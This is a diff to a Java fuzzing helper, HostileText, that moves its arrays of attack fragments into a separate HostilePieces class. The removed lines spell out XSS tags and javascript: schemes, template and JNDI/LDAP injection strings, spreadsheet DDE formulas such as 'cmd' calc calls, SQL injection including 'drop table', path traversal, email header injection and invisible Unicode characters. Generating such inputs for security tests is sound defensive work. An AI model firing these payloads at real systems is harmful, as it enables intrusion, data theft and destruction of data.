@@ -1,5 +1,19 @@
 package app.laurel;
 
+import static app.laurel.HostilePieces.EVENTS;
+import static app.laurel.HostilePieces.FORMULAS;
+import static app.laurel.HostilePieces.FUNCTIONS;
+import static app.laurel.HostilePieces.HEADERS;
+import static app.laurel.HostilePieces.INVISIBLE;
+import static app.laurel.HostilePieces.MARKS;
+import static app.laurel.HostilePieces.PATHS;
+import static app.laurel.HostilePieces.QUOTES;
+import static app.laurel.HostilePieces.SCHEMES;
+import static app.laurel.HostilePieces.STATEMENTS;
+import static app.laurel.HostilePieces.TAGS;
+import static app.laurel.HostilePieces.TEMPLATES;
+import static app.laurel.HostilePieces.VALUES;
+
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Random;
@@ -9,108 +23,6 @@ import java.util.Random;
  * from pieces, so that no list of known attacks is learned by heart. A script that runs opens a dialog.
  */
 public final class HostileText {
-    private static final String[] TAGS = {
-        "script", "img", "svg", "iframe", "object", "details", "video", "body", "math", "a"
-    };
-    private static final String[] EVENTS = {
-        "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationend", "onpointerenter"
-    };
-    private static final String[] QUOTES = {
-        "\"", "'", "`", "\">", "'>", "\"/>", "</title>", "</textarea>", "--!>", "]]>", "</script>"
-    };
-    private static final String[] TEMPLATES = {
-        "${%s}",
-        "{{%s}}",
-        "#{%s}",
-        "<%%= %s %%>",
-        "[[%s]]",
-        "@{%s}",
-        "*{%s}",
-        "{%s}",
-        "{0} %s",
-        "%%{%s}",
-        "<#if %s>",
-        "${jndi:ldap://x.example/%s}",
-        "$unsafe{%s}"
-    };
-    private static final String[] INVISIBLE = {
-        "\u202E",
-        "\u202D",
-        "\u2066",
-        "\u2069",
-        "\u200B",
-        "\u200D",
-        "\u200F",
-        "\uFEFF",
-        "\u00AD",
-        "\u3164",
-        "\u115F",
-        "\u180E",
-        "\uDB40\uDC41"
-    };
-    private static final String[] SCHEMES = {
-        "javascript:",
-        "JaVaScRiPt:",
-        "java\tscript:",
-        "&#106;avascript:",
-        "vbscript:",
-        "data:text/html,",
-        "data:text/html;base64,",
-        "blob:",
-        "file:///"
-    };
-    private static final String[] FORMULAS = {
-        "=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "'=", "\"=", ";=", "\uFEFF=", "\u200B="
-    };
-    private static final String[] FUNCTIONS = {
-        "1+1",
-        "SUM(A1:A9)",
-        "HYPERLINK(\"http://x.example\",\"x\")",
-        "cmd|' /C calc'!A1",
-        "WEBSERVICE(\"http://x.example\")",
-        "IMPORTXML(A1)",
-        "DDE(\"a\",\"b\",\"c\")",
-        "2*3"
-    };
-    private static final String[] VALUES = {
-        "3/4",
-        "1-2",
-        "12.5",
-        "2026-01-02",
-        "1/2/2026",
-        "1e5",
-        "10:30",
-        "₩1,000",
-        "50%",
-        "TRUE",
-        "false",
-        "참",
-        "Mar 5",
-        "2026년 3월 1일",
-        "(5)",
-        "٣٤",
-        "１２",
-        "00123",
-        "1 1/2",
-        "$5"
-    };
-    private static final String[] STATEMENTS = {
-        "' or 1=1 -- ",
-        "'; drop table ballot; -- ",
-        "\") or (\"1\"=\"1",
-        "' union select mail from community_account -- ",
-        "\\'; -- ",
-        "1; sleep(5)",
-        "%' or '%'='"
-    };
-    private static final String[] PATHS = {
-        "../", "..\\", "%2e%2e/", "..%2f", "....//", "/..;/", "%c0%ae%c0%ae/", "\\\\x.example\\", "//x.example/"
-    };
-    private static final String[] HEADERS = {
-        "\r\nBcc: ", "\nBcc: ", "%0d%0aBcc: ", "\r\n\r\n", "\u2028Bcc: ", "=?utf-8?q?=0ABcc:?= ", "\r\n.\r\nMAIL FROM:"
-    };
-    private static final String MARKS = "\u0300\u0301\u0316\u0327\u0334\u0338\u0353\u0489\u0E47\u20DD";
-
     private final Random random;
 
     private HostileText(long seed) {
